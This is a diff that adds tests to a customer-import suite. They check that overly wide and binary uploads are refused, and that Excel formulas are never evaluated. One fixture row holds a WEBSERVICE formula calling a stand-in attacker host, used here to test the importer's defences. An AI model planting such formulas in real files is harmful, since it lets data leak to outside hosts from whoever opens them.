@@ -38,6 +38,14 @@ describe('files that are refused', () => {
     expect(storedFiles()).toBe(files);
   });
 
+  it('refuses 10,000 columns and binary garbage with a reason, and the server stays healthy', async () => {
+    const wide = `${Array.from({ length: 10_000 }, (_, index) => `Column ${index}`).join(',')}\n`;
+    expect((await upload(staff, 'wide.csv', wide)).json().error).toMatchObject({ reason: 'too_many_columns', message: expect.stringContaining('10000 columns') });
+    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256));
+    expect((await upload(staff, 'garbage.csv', garbage)).json().error).toMatchObject({ reason: 'binary' });
+    expect((await app.http.inject({ method: 'GET', url: '/readyz' })).statusCode).toBe(200);
+  });
+
   it('refuses a file over IMPORT_MAX_FILE_MB with 413 and a message saying the limit, keeping nothing', async () => {
     const imports = await importCount();
     const big = Buffer.alloc(1024 * 1024 + 10, 'a');
@@ -126,6 +134,19 @@ describe('other formats and platforms', () => {
     await post(staff, `/api/v1/imports/${uploaded.id}/start`);
     await waitForStatus(staff, uploaded.id, ['done']);
     expect(await customerByEmail(app, 'xlsx@example.nl')).toMatchObject({ mobile: '+31 6 12345678', billingAddress: expect.objectContaining({ postcode: '1016 GV' }) });
+  });
+
+  it('takes the values Excel cached for formulas and never evaluates them', async () => {
+    const workbook = new ExcelJS.Workbook();
+    const sheet = workbook.addWorksheet('Klanten');
+    sheet.addRow(['E-mail', 'First name', 'Last name', 'Notes']);
+    sheet.addRow(['formula@example.com', 'For', 'Mula', { formula: 'CONCAT("a","b")', result: 'cached text' }]);
+    sheet.addRow(['noresult@example.com', 'No', 'Result', { formula: 'WEBSERVICE("http://attacker.example/")' }]);
+    const uploaded = await uploadOk(staff, 'formulas.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
+    await post(staff, `/api/v1/imports/${uploaded.id}/start`);
+    await waitForStatus(staff, uploaded.id, ['done']);
+    expect((await customerByEmail(app, 'formula@example.com'))?.notes).toBe('cached text');
+    expect((await customerByEmail(app, 'noresult@example.com'))?.notes).toBe('');
   });
 
   it('recognises a Shopify export and names the preset', async () => {
